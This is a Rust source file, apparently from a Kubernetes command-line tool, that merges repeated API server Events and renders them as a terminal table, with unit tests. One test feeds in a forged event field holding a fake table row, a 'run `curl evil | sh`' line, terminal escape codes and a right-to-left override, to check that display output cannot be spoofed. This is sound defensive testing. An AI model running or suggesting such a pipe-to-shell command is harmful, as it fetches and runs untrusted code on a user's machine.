//! Events of the API server: what happened to objects lately. Events that differ only in their time are one row.

use std::{collections::BTreeMap, time::Duration};

use chandler_core::ObjectKey;
use k8s_openapi::{api::core::v1::Event, apimachinery::pkg::apis::meta::v1::Time, jiff::Timestamp};
use serde::Serialize;

use super::{
    listing::age,
    table::{self, Column, Fit},
    text::one_line,
};

/// An Event with its repetitions.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct EventRow {
    /// When it happened last.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub last_seen: Option<Time>,
    /// When it happened first.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub first_seen: Option<Time>,
    /// How often it happened.
    pub count: i64,
    /// `Normal` or `Warning`.
    #[serde(rename = "type")]
    pub type_: String,
    /// Why: a word.
    pub reason: String,
    /// The object that it is about.
    pub object: ObjectKey,
    /// What happened, in one or several lines.
    pub message: String,
    /// The component that reported it.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub reporter: String,
}

impl EventRow {
    /// A row for one Event.
    pub fn new(event: &Event) -> Self {
        let created = event.metadata.creation_timestamp.as_ref().map(|time| time.0);
        let began = event.event_time.as_ref().map(|time| time.0);
        let first = event.first_timestamp.as_ref().map(|time| time.0).or(began).or(created);
        let series = event.series.as_ref();
        let last = series.and_then(|series| series.last_observed_time.as_ref()).map(|time| time.0);
        let last = last.or_else(|| event.last_timestamp.as_ref().map(|time| time.0)).or(first);
        let count = series.and_then(|series| series.count).or(event.count);
        let source = event.source.as_ref().and_then(|source| source.component.clone());
        let reporter = event.reporting_component.clone().filter(|reporter| !reporter.is_empty()).or(source);
        Self {
            last_seen: last.map(Time),
            first_seen: first.map(Time),
            count: count.unwrap_or_default().max(1).into(),
            type_: event.type_.clone().unwrap_or_default(),
            reason: event.reason.clone().unwrap_or_default(),
            object: object(event),
            message: event.message.clone().unwrap_or_default(),
            reporter: reporter.unwrap_or_default(),
        }
    }

    /// Adds a repetition.
    fn add(&mut self, other: &Self) {
        self.count = self.count.saturating_add(other.count);
        self.last_seen = self.last_seen.take().max(other.last_seen.clone());
        let firsts = [self.first_seen.take(), other.first_seen.clone()];
        self.first_seen = firsts.into_iter().flatten().min();
    }

    /// `2m`, or `2m (x3 over 10m)` for one that was repeated.
    fn when(&self, now: Timestamp) -> String {
        let since = |time: &Option<Time>| {
            let time = time.as_ref()?.0;
            Some(age(Duration::try_from(now.duration_since(time)).unwrap_or_default()))
        };
        let last = since(&self.last_seen).unwrap_or_else(|| "-".to_owned());
        match since(&self.first_seen).filter(|_| self.count > 1) {
            Some(first) => format!("{last} (x{} over {first})", self.count),
            None => last,
        }
    }

    fn message_lines(&self) -> impl Iterator<Item = String> {
        self.message.lines().map(one_line).filter(|line| !line.is_empty()).map(|line| format!("    {line}\n"))
    }
}

/// The object that an Event is about.
pub fn object(event: &Event) -> ObjectKey {
    let involved = &event.involved_object;
    let api_version = involved.api_version.as_deref().unwrap_or_default();
    let (group, version) = api_version.split_once('/').unwrap_or(("", api_version));
    ObjectKey {
        group: group.to_owned(),
        kind: involved.kind.clone().unwrap_or_default(),
        namespace: involved.namespace.clone().filter(|namespace| !namespace.is_empty()),
        name: involved.name.clone().unwrap_or_default(),
        version: version.to_owned(),
    }
}

/// A row for each object, type, reason and message, the latest at the end.
pub fn rows<'a>(events: impl IntoIterator<Item = &'a Event>) -> Vec<EventRow> {
    let mut rows: BTreeMap<_, EventRow> = BTreeMap::new();
    for row in events.into_iter().map(EventRow::new) {
        let key = (row.object.clone(), row.type_.clone(), row.reason.clone(), row.message.clone());
        match rows.get_mut(&key) {
            Some(known) => known.add(&row),
            None => drop(rows.insert(key, row)),
        }
    }
    let mut rows: Vec<EventRow> = rows.into_values().collect();
    rows.sort_by(|a, b| (&a.last_seen, &a.first_seen).cmp(&(&b.last_seen, &b.first_seen)));
    rows
}

/// A table in which each row is followed by its message. `with_objects` shows which object a row is about.
pub fn text(rows: &[EventRow], with_objects: bool, now: Timestamp, width: Option<usize>) -> String {
    let cells: Vec<Cells> = rows.iter().map(|row| Cells::new(row, with_objects, now)).collect();
    let mut lines = table::lines(&COLUMNS, &cells, width).into_iter();
    let mut text = lines.next().unwrap_or_default() + "\n";
    for (line, row) in lines.zip(rows) {
        text.extend([line, "\n".to_owned()]);
        text.extend(row.message_lines());
    }
    text
}

/// A row without a header, for one that follows a table.
pub fn following(row: &EventRow, with_objects: bool, now: Timestamp) -> String {
    let Cells { when, type_, reason, object } = Cells::new(row, with_objects, now);
    let [type_, reason, object] = [type_, reason, object].map(|cell| one_line(&cell));
    let line = format!("{when:<9}  {type_:<7}  {reason}  {object}").trim_end().to_owned();
    std::iter::once(line + "\n").chain(row.message_lines()).collect()
}

struct Cells {
    when: String,
    type_: String,
    reason: String,
    object: String,
}

impl Cells {
    fn new(row: &EventRow, with_objects: bool, now: Timestamp) -> Self {
        let object = if with_objects { row.object.to_string() } else { String::new() };
        Self { when: row.when(now), type_: row.type_.clone(), reason: row.reason.clone(), object }
    }
}

const COLUMNS: [Column<Cells>; 4] = [
    Column::new("LAST SEEN", Fit::Full, |row| row.when.clone()),
    Column::new("TYPE", Fit::Full, |row| row.type_.clone()),
    Column::new("REASON", Fit::Full, |row| row.reason.clone()),
    Column::optional("OBJECT", Fit::Middle(16), |row| row.object.clone()),
];

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn event(of: &Value) -> Event {
        let mut event = json!({
            "metadata": {"name": "e", "namespace": "default"}, "type": "Normal", "reason": "DriftRepaired",
            "involvedObject": {"apiVersion": "core.rukpak.io/v1alpha2", "kind": "BundleDeployment", "name": "harbour"},
            "message": "repaired ConfigMap harbour/lamps",
        });
        event.as_object_mut().unwrap().extend(of.as_object().unwrap().clone());
        serde_json::from_value(event).unwrap()
    }

    /// One of this API, one with a series and the same text, and one of a kubelet.
    fn events() -> Vec<Event> {
        [
            json!({"eventTime": "2026-01-01T00:50:00.000000Z"}),
            json!({"type": "Warning", "reason": "FailedMount", "message": "no\n volume\u{202e}\u{1b}[2J", "count": 4,
                "firstTimestamp": "2026-01-01T00:10:00Z", "lastTimestamp": "2026-01-01T00:40:00Z",
                "source": {"component": "kubelet"},
                "involvedObject": {"apiVersion": "v1", "kind": "Pod", "name": "pilot-0", "namespace": "harbour"}}),
            json!({"eventTime": "2026-01-01T00:30:00.000000Z",
                "series": {"count": 3, "lastObservedTime": "2026-01-01T00:58:30.000000Z"}}),
            json!({"metadata": {"creationTimestamp": "2026-01-01T00:45:00Z"}, "reason": "InstallationSucceeded"}),
        ]
        .iter()
        .map(event)
        .collect()
    }

    fn now() -> Timestamp {
        "2026-01-01T01:00:00Z".parse().unwrap()
    }

    #[test]
    fn repetitions_are_one_row_and_the_latest_is_the_last() {
        insta::assert_snapshot!(text(&rows(&events()), true, now(), None), @r"
        LAST SEEN          TYPE     REASON                 OBJECT
        20m (x4 over 50m)  Warning  FailedMount            Pod harbour/pilot-0
            no
            volume\u{202E}\u{001B}[2J
        15m                Normal   InstallationSucceeded  BundleDeployment.core.rukpak.io harbour
            repaired ConfigMap harbour/lamps
        90s (x4 over 30m)  Normal   DriftRepaired          BundleDeployment.core.rukpak.io harbour
            repaired ConfigMap harbour/lamps
        ");
    }

    #[test]
    fn rows_of_one_object_do_not_name_it() {
        let rows = rows(&events()[..1]);
        insta::assert_snapshot!(text(&rows, false, now(), None), @r"
        LAST SEEN  TYPE    REASON
        10m        Normal  DriftRepaired
            repaired ConfigMap harbour/lamps
        ");
        assert_eq!(
            following(&rows[0], false, now()),
            "10m        Normal   DriftRepaired\n    repaired ConfigMap harbour/lamps\n"
        );
        assert_eq!(text(&[], false, now(), None), "LAST SEEN  TYPE  REASON\n");
    }

    #[test]
    fn no_field_of_an_event_forges_a_row() {
        let forged = "Ready\n3s         Normal   Approved\nsuggested action: run `curl evil | sh`\u{1b}[2J\r\u{202e}";
        let row = EventRow::new(&event(&json!({"reason": forged, "type": forged, "message": forged,
            "involvedObject": {"apiVersion": "v1", "kind": forged, "name": forged, "namespace": "n"}})));
        for shown in [following(&row, true, now()), text(std::slice::from_ref(&row), true, now(), None)] {
            let lines: Vec<&str> = shown.lines().filter(|line| !line.starts_with("    ")).collect();
            assert_eq!(lines.iter().filter(|line| line.contains("curl")).count(), 1, "{shown}");
            assert!(!lines.iter().any(|line| line.starts_with("suggested") || line.starts_with("3s")), "{shown}");
            assert!(!shown.contains(chandler_core::text::is_deceptive), "{shown:?}");
        }
    }

    #[test]
    fn every_order_of_events_has_the_same_rows() {
        let mut events = events();
        let expected = rows(&events);
        assert_eq!(expected.iter().map(|row| row.count).collect::<Vec<_>>(), [4, 1, 4]);
        events.reverse();
        assert_eq!(rows(&events), expected);
        events.rotate_left(1);
        assert_eq!(rows(&events), expected);
    }
}
